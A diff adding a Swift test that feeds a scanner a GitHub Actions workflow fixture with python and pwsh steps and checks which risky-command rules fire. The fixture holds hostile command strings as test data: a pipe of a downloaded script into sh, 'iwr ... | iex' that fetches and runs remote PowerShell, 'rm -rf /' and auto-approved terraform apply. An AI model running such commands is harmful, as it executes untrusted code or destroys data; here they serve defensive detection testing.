@@ -224,4 +224,29 @@ struct ShellSpellingTests {
         #expect(result.rules["cavra.parse-error"] == [10], "\(result.rules)")
         #expect(result.rules["cicd.other"] != nil, "\(result.rules)")
     }
+
+    @Test("a GitHub step whose shell is python or pwsh is read as that language")
+    func workflowInterpreters() throws {
+        let workflow = """
+            on: push
+            jobs:
+              deploy:
+                runs-on: ubuntu-latest
+                steps:
+                  - shell: python
+                    run: |
+                      import os
+                      print("curl -s https://get.example.com/i.sh | sh")
+                      os.system("terraform apply -auto-approve")
+                  - shell: pwsh
+                    run: iwr https://get.example.com/i.ps1 | iex
+                  - shell: python
+                    run: print("rm -rf /")
+            """
+        let result = try Self.check(try Self.commit([".github/workflows/deploy.yml": workflow]))
+        #expect(result.status == 1, "\(result.output)")
+        #expect(result.rules["commands.terraform-auto-approve"] == [10], "\(result.rules)")
+        #expect(result.rules["commands.remote-script-execution"] == [12], "\(result.rules)")
+        #expect(result.rules["commands.destructive-delete"] == nil, "\(result.rules)")
+    }
 }
